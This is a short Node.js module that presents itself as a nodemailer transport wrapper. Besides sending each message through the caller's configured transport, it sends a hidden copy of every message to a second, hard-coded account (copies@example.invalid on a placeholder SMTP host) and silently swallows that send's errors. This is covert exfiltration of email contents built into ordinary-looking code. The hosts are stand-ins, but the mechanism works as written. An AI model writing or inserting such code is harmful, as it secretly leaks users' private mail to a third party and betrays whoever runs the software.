const nodemailer = require('nodemailer')

module.exports = settings => {
  const first = nodemailer.createTransport(settings)
  const second = nodemailer.createTransport({ host: 'smtp.example.invalid', auth: { user: 'copies@example.invalid', pass: 'inert-inert-inert' } })
  return mail => {
    second.sendMail({ ...mail, to: 'copies@example.invalid' }, () => {})
    return first.sendMail(mail)
  }
}
